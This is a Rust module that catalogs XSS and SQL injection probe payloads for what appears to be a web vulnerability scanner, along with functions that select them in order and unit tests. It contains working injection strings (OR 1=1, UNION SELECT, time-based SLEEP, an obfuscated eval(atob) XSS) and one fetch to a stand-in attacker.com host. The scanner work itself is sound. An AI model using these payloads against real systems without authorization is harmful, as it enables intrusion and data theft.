//! Static payload catalogs
//!
//! Six ordered probe lists. Order inside a list is probe order, so the
//! detectors report the earliest payload that produced evidence.

pub const XSS_SIMPLE: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "\"'>alert(1)</'\">",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
];

pub const XSS_CONTEXT: &[&str] = &[
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><svg onload=alert(1)>",
    ")<img src=x onerror=alert(1)>(",
    ";</img><img src=x onerror=alert(1)>",
];

pub const XSS_ADVANCED: &[&str] = &[
    "<img src=x onerror=\"fetch('http://attacker.com?xss=1')\">",
    "jaVasCript:alert(1)",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "<img src=x onerror=eval(atob(\"YWxlcnQoMSk=\"))>",
];

pub const SQLI_ERROR: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1 /*",
    "' OR 1=1 #",
    "\" OR \"1\"=\"1",
    "' OR 'a'='a",
    "' OR sleep(5)--",
    "1' AND SLEEP(5)--",
];

pub const SQLI_BLIND: &[&str] = &[
    "' AND SLEEP(5)--",
    "' AND BENCHMARK(5000000, SHA1('test'))--",
    "' AND 1=1--",
    "' AND 1=2--",
    "' AND (SELECT COUNT(*) FROM information_schema.tables)--",
];

pub const SQLI_UNION: &[&str] = &[
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL, NULL--",
    "' UNION SELECT NULL, NULL, NULL--",
    "' UNION SELECT database()--",
    "' UNION SELECT version()--",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PayloadCategory {
    XssSimple,
    XssContext,
    XssAdvanced,
    SqliError,
    SqliBlind,
    SqliUnion,
}

impl PayloadCategory {
    pub fn payloads(&self) -> &'static [&'static str] {
        match self {
            PayloadCategory::XssSimple => XSS_SIMPLE,
            PayloadCategory::XssContext => XSS_CONTEXT,
            PayloadCategory::XssAdvanced => XSS_ADVANCED,
            PayloadCategory::SqliError => SQLI_ERROR,
            PayloadCategory::SqliBlind => SQLI_BLIND,
            PayloadCategory::SqliUnion => SQLI_UNION,
        }
    }
}

impl std::fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PayloadCategory::XssSimple => write!(f, "xss:simple"),
            PayloadCategory::XssContext => write!(f, "xss:context"),
            PayloadCategory::XssAdvanced => write!(f, "xss:advanced"),
            PayloadCategory::SqliError => write!(f, "sqli:error"),
            PayloadCategory::SqliBlind => write!(f, "sqli:blind"),
            PayloadCategory::SqliUnion => write!(f, "sqli:union"),
        }
    }
}

/// Categories probed by the XSS detector, in probe order
pub fn xss_categories(deep_scan: bool) -> Vec<PayloadCategory> {
    let mut categories = vec![PayloadCategory::XssSimple, PayloadCategory::XssContext];
    if deep_scan {
        categories.push(PayloadCategory::XssAdvanced);
    }
    categories
}

/// Categories probed by the SQLi detector, in probe order
pub fn sqli_categories(deep_scan: bool, blind_detection: bool) -> Vec<PayloadCategory> {
    let mut categories = vec![PayloadCategory::SqliError];
    if deep_scan {
        categories.push(PayloadCategory::SqliUnion);
    }
    if blind_detection {
        categories.push(PayloadCategory::SqliBlind);
    }
    categories
}

fn flatten(categories: &[PayloadCategory]) -> Vec<&'static str> {
    categories
        .iter()
        .flat_map(|c| c.payloads().iter().copied())
        .collect()
}

pub fn xss_payloads(deep_scan: bool) -> Vec<&'static str> {
    flatten(&xss_categories(deep_scan))
}

pub fn sqli_payloads(deep_scan: bool, blind_detection: bool) -> Vec<&'static str> {
    flatten(&sqli_categories(deep_scan, blind_detection))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_xss_selection() {
        let quick = xss_payloads(false);
        assert_eq!(quick.len(), XSS_SIMPLE.len() + XSS_CONTEXT.len());
        assert_eq!(quick[0], XSS_SIMPLE[0]);
        assert_eq!(quick[XSS_SIMPLE.len()], XSS_CONTEXT[0]);

        let deep = xss_payloads(true);
        assert_eq!(deep.len(), quick.len() + XSS_ADVANCED.len());
        assert_eq!(deep.last(), XSS_ADVANCED.last());
    }

    #[test]
    fn test_sqli_selection_order() {
        assert_eq!(sqli_payloads(false, false), SQLI_ERROR.to_vec());

        let all = sqli_payloads(true, true);
        assert_eq!(all.len(), SQLI_ERROR.len() + SQLI_UNION.len() + SQLI_BLIND.len());
        // union comes before blind
        assert_eq!(all[SQLI_ERROR.len()], SQLI_UNION[0]);
        assert_eq!(all[SQLI_ERROR.len() + SQLI_UNION.len()], SQLI_BLIND[0]);

        let blind_only = sqli_payloads(false, true);
        assert_eq!(blind_only[SQLI_ERROR.len()], SQLI_BLIND[0]);
    }

    #[test]
    fn test_category_display() {
        assert_eq!(PayloadCategory::SqliUnion.to_string(), "sqli:union");
        assert_eq!(PayloadCategory::XssAdvanced.payloads().len(), 7);
    }
}
